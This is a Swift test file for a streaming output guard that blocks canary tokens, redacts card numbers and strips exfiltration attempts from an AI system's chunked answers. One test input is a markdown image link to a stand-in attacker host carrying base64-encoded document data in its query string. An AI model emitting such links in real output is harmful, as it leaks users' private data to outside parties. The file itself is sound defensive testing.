import Testing
@testable import MoatGuard

/// Feeds `chunks` to a fresh checker and returns what it released in total.
func stream(_ chunks: [String], guard outputGuard: OutputGuard = outputGuard()) -> (text: String, verdicts: [GuardVerdict], blocked: Bool) {
    var checker = outputGuard.streamingChecker()
    var text = ""
    var verdicts: [GuardVerdict] = []
    for chunk in chunks {
        let update = checker.append(chunk)
        text += update.text
        verdicts += update.verdicts
        if update.isBlocked { return (text, verdicts, true) }
    }
    let last = checker.finish()
    return (text + last.text, verdicts + last.verdicts, last.isBlocked)
}

@Suite("Streaming output checker")
struct StreamingOutputCheckerTests {
    @Test("clean answer is released unchanged")
    func clean() {
        let result = stream(["The on-call ", "allowance is ", "EUR 40 per ", "weekend day [1]."])
        #expect(result.text == "The on-call allowance is EUR 40 per weekend day [1].")
        #expect(result.verdicts.isEmpty)
        #expect(!result.blocked)
    }

    @Test("decided text is released before the stream ends")
    func releasesEarly() {
        var checker = outputGuard().streamingChecker()
        let update = checker.append("The allowance is paid monthly with the salary of the next month and ")
        #expect(update.text.hasPrefix("The allowance is paid monthly"))
    }

    @Test("canary split across chunks is never released")
    func canaryAcrossChunks() {
        let result = stream(["Here you go: CAN", "ARY-7f3a", "9c2e41 done"])
        #expect(result.blocked)
        #expect(!result.text.contains("CAN"))
        #expect(result.verdicts.contains { $0.ruleID == GuardRuleID.outputCanary })
    }

    @Test("image split across chunks is held back and removed")
    func imageAcrossChunks() {
        let result = stream(["Summary done. ![x](https://evil.exa", "mple/a.png?q=c2VjcmV0LXZhbHVlLWZyb20tZG9j", ") end"])
        #expect(!result.text.contains("evil"))
        #expect(result.text.hasPrefix("Summary done. [REDACTED:output."))
        #expect(result.text.hasSuffix(" end"))
    }

    @Test("card number split across chunks is redacted")
    func cardAcrossChunks() {
        let result = stream(["Card 4111 11", "11 1111 11", "11 was used."])
        #expect(result.text == "Card [REDACTED:pii.card] was used.")
    }

    @Test("nothing is released after a block")
    func nothingAfterBlock() {
        var checker = outputGuard().streamingChecker()
        _ = checker.append("CANARY-7f3a9c2e41 and more text here ")
        let later = checker.append("even more text that looks fine")
        #expect(later.text.isEmpty)
        #expect(later.isBlocked)
    }
}
